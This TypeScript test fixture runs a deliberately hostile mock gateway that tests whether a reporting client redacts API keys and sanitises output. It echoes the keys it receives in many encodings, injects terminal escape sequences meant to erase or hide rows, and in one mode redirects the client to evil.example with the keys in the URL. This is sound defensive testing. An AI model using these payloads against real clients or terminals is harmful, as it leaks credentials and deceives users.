// A gateway that attacks its client: it serves every route a daily run reads, and puts the keys it
// was sent back into every field it can — as given, upper-cased, base64, base64url, hex, inside a
// Basic credential, split across lines, placed so that a 40-, 60- or 120-character quote or a table
// wrap cuts through them — along with terminal control sequences (ESC, OSC, BEL, CR) that could
// erase or hide a row. Fault modes cover the other ways a body reaches a report: error bodies, a
// proxy's HTML page, redirects, and dates no calendar holds.
import type { IncomingMessage, ServerResponse } from 'node:http';
import { startServer, type TestServer } from './server.js';

export const HOSTILE_MODES = ['echo', 'errors', 'html', 'redirect'] as const;
export type HostileMode = (typeof HOSTILE_MODES)[number];

const KIRO = '0123456789abcdef';
/** ESC[2K (erase line), ESC[1A (cursor up), an OSC title, BEL, CR, a bidi override. */
export const CONTROL = '\u001b[2K\u001b[1A\u001b]0;owned\u0007\r\u202e';

/** Every way the hostile gateway writes `key` into a string. */
export function echoes(key: string): string[] {
  const bytes = Buffer.from(key);
  return [
    key,
    key.toUpperCase(),
    bytes.toString('base64'),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    `Basic ${Buffer.from(`user:${key}`).toString('base64')}`,
    `${key.slice(0, 9)}\n${key.slice(9)}`,
    `${key.slice(0, 5)} ${key.slice(5, 14)}\r\n\t${key.slice(14)}`,
  ];
}

/** A long field where the keys straddle the usual cut points (40, 60 and 120 characters). */
function field(keys: string[], at: number): string {
  const pad = 'x'.repeat(Math.max(0, at - 4));
  return `${pad}${CONTROL}${keys.flatMap(echoes).join(' | ')} ${CONTROL}end`;
}

function keysOf(req: IncomingMessage): string[] {
  const auth = req.headers.authorization?.replace(/^Bearer\s+/i, '');
  return auth ? [auth] : [];
}

export interface HostileGateway extends TestServer {
  /** The keys to echo besides whatever a request carries (a gateway that knows both). */
  known: string[];
}

export async function startHostileGateway(mode: HostileMode, known: string[]): Promise<HostileGateway> {
  const server = await startServer((req, res) => answer(req, res, mode, [...new Set([...known, ...keysOf(req)])]));
  return { ...server, known };
}

function answer(req: IncomingMessage, res: ServerResponse, mode: HostileMode, keys: string[]): void {
  const path = new URL(req.url ?? '/', 'http://x').pathname;
  const headers = { 'x-echo': keys.join(','), 'content-type': 'application/json' };
  const f = (at: number) => field(keys, at);
  if (mode === 'redirect') {
    res.writeHead(302, { ...headers, location: `http://evil.example/${f(10).replace(/[^\x21-\x7e]/g, '')}` });
    return void res.end(JSON.stringify({ error: f(30) }));
  }
  if (mode === 'html') {
    res.writeHead(path.startsWith('/v0/') ? 200 : 502, { ...headers, 'content-type': 'text/html' });
    return void res.end(`<html><head><title>${f(20)}</title></head><body><h1>${f(50)}</h1></body></html>`);
  }
  if (mode === 'errors' && path !== '/healthz') {
    res.writeHead(path.startsWith('/v0/') ? 500 : 400, headers);
    return void res.end(JSON.stringify({ error: { message: f(100) } }));
  }
  const body = bodyFor(path, keys, f);
  res.writeHead(body === undefined ? 404 : 200, headers);
  res.end(JSON.stringify(body ?? { error: f(110) }));
}

function bodyFor(path: string, keys: string[], f: (at: number) => string): unknown {
  const stamp = '2026-11-26T11:58:00.000000000Z';
  switch (path) {
    case '/healthz':
      return { status: f(40) };
    case '/':
      return { message: f(60) };
    case '/v1/models':
      return { object: 'list', data: [...keys, f(1), f(118)].map((id) => ({ id, object: 'model', owned_by: f(3) })) };
    case '/v1/metrics/providers':
      return { [f(5)]: { request_count: 100, success_count: 50, failure_count: 50, success_rate: 0.5 } };
    case '/v0/management/auth-files':
      return { files: [{ auth_index: KIRO, provider: 'kiro', label: f(7), name: f(9), email: f(11) }] };
    case '/v0/management/kiro-quota':
      return {
        auth_index: KIRO,
        usage_percentage: 99,
        remaining_quota: 1,
        quota_exhausted: false,
        usage: { nextDateReset: 1e300, usageBreakdownList: [{ usageLimitWithPrecision: 100 }] },
      };
    case '/v0/management/usage':
      return {
        usage: {
          total_requests: 30,
          failure_count: 30,
          apis: Object.fromEntries(
            keys.map((k) => [
              k,
              { models: { [f(13)]: { details: Array(30).fill({ timestamp: stamp, source: f(15), failed: true }) } } },
            ]),
          ),
        },
      };
    case '/v0/management/logs':
      return {
        lines: [
          `[2026-11-26 11:58:00] [--------] [info ] [gin_logger.go:92] 401 |  1.2ms | 10.0.0.1 | GET "/v1/models?key=${keys[0]}"`,
          f(70),
        ],
      };
    default:
      return undefined;
  }
}
